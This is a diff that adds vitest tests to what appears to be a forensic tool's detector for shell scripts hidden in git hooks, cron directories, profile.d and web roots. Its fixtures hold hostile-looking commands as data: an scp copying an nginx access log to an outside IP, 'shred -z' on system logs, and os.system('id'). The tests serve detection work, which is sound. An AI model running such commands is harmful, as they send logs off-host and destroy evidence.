@@ -1,7 +1,9 @@
 import { describe, expect, it } from 'vitest';
+import { FORMATS } from '../../../src/index.ts';
+import { cpuTime } from '../../../../../tools/cpu-time.ts';
 import { SCRIPT } from '../../../src/evidence/text/script/script.ts';
 import { sample } from './samples.ts';
-import { detects, objects, readAll } from './reading.ts';
+import { detects, objects, readAll, utf8 } from './reading.ts';
 
 const shown = async (text: string, path = 'x'): Promise<unknown[]> =>
   (await objects(SCRIPT, text, { path })).map(({ line, code, comment, command }) =>
@@ -107,5 +109,80 @@ describe('scripts', () => {
     const { events, issues } = await readAll(SCRIPT, '#!/bin/sh\nexit\n\x01\x02\nshred x\n\x03\n');
     expect(events.length).toBe(2);
     expect(issues.map(({ code, offset }) => [code, offset])).toEqual([['TEXT_LINE', 15]]);
+  });
+});
+
+describe('scripts without a first line that says so', () => {
+  const commands = 'LOG=/var/log/nginx/access.log\nscp "$LOG" a@192.0.2.1:\n';
+  const told = (path: string, text = commands): boolean =>
+    SCRIPT.detect(new TextEncoder().encode(text), path);
+
+  it.each([
+    'srv/git/site.git/hooks/post-receive',
+    'site/.git/hooks/pre-commit',
+    'git.tar!repo.git/hooks/update',
+    'C:\\case\\etc\\profile.d\\login.sh',
+    'etc/cron.daily/clean',
+    'etc/cron.d/clean',
+    'etc/rc.local',
+    'etc/ssh/sshrc',
+    'home/a/.ssh/rc',
+    'etc/NetworkManager/dispatcher.d/50-x',
+    'var/www/html/clean.sh',
+    'opt/x/clean.sh',
+  ])('%s', (path) => {
+    expect(told(path)).toBe(true);
+  });
+
+  it.each([
+    ['notes/post-receive', commands],
+    ['site/.git/hooks/README', commands],
+    ['etc/profile.d/a.csh', commands],
+    ['etc/profile.d/a.sh', 'setenv A b\necho $A\n'],
+    ['doc/install.sh', 'How to install\n'],
+    ['srv/hooks/update', '[hooks]\nwhat = $a\n'],
+    ['srv/hooks/update', '<html>\necho a\n'],
+    ['etc/cron.daily/.placeholder', '# nothing here\n'],
+    ['usr/lib/python3/x.py', 'import os\n'],
+    ['var/www/html/x.py', 'a = 1\n'],
+    ['opt/a.sh', '\0\0echo $a'],
+  ])('not %s %#', (path, text) => {
+    expect(told(path, text)).toBe(false);
+  });
+
+  it('Perl and Python in a web root', async () => {
+    const perl = "use strict;\nsystem('shred -z /var/log/messages');\n";
+    expect(await shown(perl, 'var/www/cgi-bin/a.cgi')).toMatchObject([
+      {},
+      { command: 'shred -z /var/log/messages' },
+    ]);
+    expect(told('srv/www/x/a.py', 'import os\nos.system("id")\n')).toBe(true);
+  });
+
+  it('a table of cron stays one', () => {
+    const table = '*/5 * * * * root cat /var/log/syslog >> /tmp/a && true\n';
+    const found = FORMATS.find((format) => format.detect(utf8(table), 'etc/cron.d/a'));
+    expect(found?.id).toBe('crontab');
+  });
+
+  it('stay quick whatever the path and the lines are', () => {
+    const start = cpuTime();
+    for (const piece of [
+      'hooks/',
+      '.git/',
+      'a.',
+      'etc/',
+      'if ',
+      'for a in ',
+      'case in ',
+      '$(',
+      'my ',
+    ]) {
+      const text = piece.repeat(60_000 / piece.length);
+      told(`${text}x.sh`);
+      told('a.sh', `${text}\n`.repeat(5));
+      told('var/www/a.cgi', `${text}\n`.repeat(5));
+    }
+    expect(cpuTime() - start).toBeLessThan(3_000);
   });
 });
